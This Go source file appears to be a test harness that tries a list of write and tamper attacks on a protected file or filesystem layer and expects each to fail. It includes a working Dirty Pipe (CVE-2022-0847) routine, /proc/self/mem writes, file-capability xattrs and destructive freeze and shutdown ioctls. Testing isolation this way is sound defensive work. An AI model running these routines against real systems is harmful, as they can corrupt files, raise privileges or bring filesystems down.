package attach

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

// fileAttacks go for the file by way of a descriptor.
func fileAttacks() []attack {
	return []attack{
		{group: writes, name: "open with O_TRUNC", try: func(a *arena) error {
			return closed(unix.Open(a.At+"/file", unix.O_RDONLY|unix.O_TRUNC, 0))
		}},
		{group: writes, name: "copy_file_range", try: func(a *arena) error {
			return withFile(a, unix.O_RDWR, func(fd int) error {
				from, err := unix.Open("/etc/passwd", unix.O_RDONLY, 0)
				if err != nil {
					return err
				}
				defer unix.Close(from)
				_, err = unix.CopyFileRange(from, nil, fd, nil, 1, 0)
				return err
			})
		}},
		{group: writes, name: "fallocate by a descriptor open for reading", uncontrolled: "needs one open for writing",
			try: onFile(func(fd int) error { return unix.Fallocate(fd, 0, 0, 1<<20) })},
		{group: writes, name: "O_TMPFILE", try: func(a *arena) error {
			return closed(unix.Open(a.At, unix.O_TMPFILE|unix.O_RDWR, 0o600))
		}},
		{group: descriptors, name: "reopen for writing in /proc/self/fd", try: onFile(reopen)},
		{group: descriptors, name: "reopen an O_PATH descriptor for writing", try: func(a *arena) error {
			return withFile(a, unix.O_PATH, reopen)
		}},
		{group: descriptors, name: "shared map, for writing", uncontrolled: "needs a descriptor open for writing", try: onFile(func(fd int) error {
			_, err := unix.Mmap(fd, 0, 1, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
			return err
		})},
		{group: descriptors, name: "shared map, then mprotect", uncontrolled: "needs a descriptor open for writing", try: onFile(func(fd int) error {
			m, err := unix.Mmap(fd, 0, 1, unix.PROT_READ, unix.MAP_SHARED)
			if err != nil {
				return err
			}
			return unix.Mprotect(m, unix.PROT_READ|unix.PROT_WRITE)
		})},
		{group: descriptors, name: "shared map, then /proc/self/mem", uncontrolled: "the kernel writes no map that may not be", try: onFile(writeMemory)},
		{group: descriptors, name: "write to a pipe that has the file's page", uncontrolled: "a pipe's page is the file's own no more", try: onFile(dirtyPipe)},
		{group: inodes, name: "fchmodat2 with AT_EMPTY_PATH", try: func(a *arena) error {
			return withFile(a, unix.O_PATH, func(fd int) error { return unix.Fchmodat(fd, "", 0o777, unix.AT_EMPTY_PATH) })
		}},
		{group: inodes, name: "fchownat with AT_EMPTY_PATH", try: func(a *arena) error {
			return withFile(a, unix.O_PATH, func(fd int) error { return unix.Fchownat(fd, "", 1, 1, unix.AT_EMPTY_PATH) })
		}},
		{group: inodes, name: "futimens", try: onFile(func(fd int) error {
			return unix.UtimesNanoAt(fd, "", []unix.Timespec{{Sec: 1}, {Sec: 1}}, unix.AT_EMPTY_PATH)
		})},
		{group: inodes, name: "fsetxattr", try: onFile(func(fd int) error { return unix.Fsetxattr(fd, "user.x", []byte("y"), 0) })},
		{group: inodes, name: "file capabilities", try: onFile(func(fd int) error {
			return unix.Fsetxattr(fd, "security.capability", append([]byte{1, 0, 0, 2, 255, 255, 255, 255}, make([]byte, 12)...), 0)
		})},
		{group: inodes, name: "POSIX ACL", try: onFile(func(fd int) error {
			return unix.Fsetxattr(fd, "system.posix_acl_access", []byte{2, 0, 0, 0, 1, 0, 7, 0, 255, 255, 255, 255, 4, 0, 7, 0, 255, 255, 255, 255,
				0x20, 0, 7, 0, 255, 255, 255, 255}, 0)
		})},
		{group: inodes, name: "FS_IOC_SETFLAGS on a descriptor open for reading", try: onFile(func(fd int) error {
			flags, err := unix.IoctlGetInt(fd, unix.FS_IOC_GETFLAGS)
			if err != nil {
				return err
			}
			return unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, flags|0x80) // no atime; the rest is the file system's
		})},
		{group: inodes, name: "FS_IOC_FSSETXATTR", try: onFile(func(fd int) error {
			return ioctl(fd, 0x401c5820, unsafe.Pointer(&[28]byte{0: 0x40})) // no atime
		})},
		{group: inodes, name: "EXT4_IOC_SETVERSION", uncontrolled: "not all file systems have it",
			try: onFile(func(fd int) error { return unix.IoctlSetPointerInt(fd, 0x40086604, 7) })},
		{group: links, name: "linkat with AT_EMPTY_PATH", try: func(a *arena) error {
			return withFile(a, unix.O_PATH, func(fd int) error {
				return unix.Linkat(fd, "", unix.AT_FDCWD, a.Scratch+"/out", unix.AT_EMPTY_PATH)
			})
		}},
		{group: links, name: "linkat by /proc/self/fd", try: func(a *arena) error {
			return withFile(a, unix.O_PATH, func(fd int) error {
				return unix.Linkat(unix.AT_FDCWD, procFD(fd), unix.AT_FDCWD, a.Scratch+"/out", unix.AT_SYMLINK_FOLLOW)
			})
		}},
		{group: ioctls, name: "FITRIM", destroys: true, try: func(a *arena) error {
			return onRootOf(a, func(fd int) error {
				return ioctl(fd, 0xc0185879, unsafe.Pointer(&[3]uint64{0, 1 << 20, 1 << 30}))
			})
		}},
		{group: ioctls, name: "FIFREEZE", destroys: true, try: func(a *arena) error {
			return onRootOf(a, func(fd int) error { return ioctl(fd, 0xc0045877, nil) })
		}},
		{group: ioctls, name: "EXT4_IOC_SHUTDOWN", destroys: true, try: func(a *arena) error {
			how := uint32(2)
			return onRootOf(a, func(fd int) error { return ioctl(fd, 0x8004587d, unsafe.Pointer(&how)) })
		}},
	}
}

func closed(fd int, err error) error {
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

func procFD(fd int) string { return fmt.Sprintf("/proc/self/fd/%d", fd) }

func withFile(a *arena, flags int, act func(fd int) error) error {
	fd, err := unix.Open(a.At+"/file", flags|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("cannot open: %w", err)
	}
	defer unix.Close(fd)
	return act(fd)
}

func onFile(act func(fd int) error) func(*arena) error {
	return func(a *arena) error { return withFile(a, unix.O_RDONLY, act) }
}

// onRootOf acts on the layer itself, whatever lies over it.
func onRootOf(a *arena, act func(fd int) error) error {
	fd, err := unix.Open(a.Layer, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return act(fd)
}

func reopen(fd int) error {
	again, err := unix.Open(procFD(fd), unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(again)
	_, err = unix.Pwrite(again, []byte("X"), 0)
	return err
}

func ioctl(fd int, request uintptr, arg unsafe.Pointer) error {
	if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), request, uintptr(arg)); errno != 0 {
		return errno
	}
	return nil
}

func writeMemory(fd int) error {
	m, err := unix.Mmap(fd, 0, 1, unix.PROT_READ, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	memory, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer memory.Close()
	_, err = memory.WriteAt([]byte("X"), int64(uintptr(unsafe.Pointer(&m[0]))))
	return err
}

// dirtyPipe is CVE-2022-0847: a pipe that has been full, then the file's page,
// then one write more. It fails if the file is as it was.
func dirtyPipe(fd int) error {
	var before, after [16]byte
	n, err := unix.Pread(fd, before[:], 0)
	if err != nil {
		return err
	}
	var pipe [2]int
	if err := unix.Pipe2(pipe[:], unix.O_NONBLOCK); err != nil {
		return err
	}
	defer unix.Close(pipe[0])
	defer unix.Close(pipe[1])
	page := make([]byte, 4096)
	for written := 0; ; {
		w, err := unix.Write(pipe[1], page)
		if err != nil {
			for written > 0 {
				r, err := unix.Read(pipe[0], page)
				if err != nil {
					return err
				}
				written -= r
			}
			break
		}
		written += w
	}
	offset := int64(0)
	if _, err := unix.Splice(fd, &offset, pipe[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(pipe[1], []byte("XXXX")); err != nil {
		return err
	}
	if _, err := unix.Pread(fd, after[:], 0); err != nil {
		return err
	}
	if bytes.Equal(before[:n], after[:n]) {
		return errors.New("the file is as it was")
	}
	return nil
}
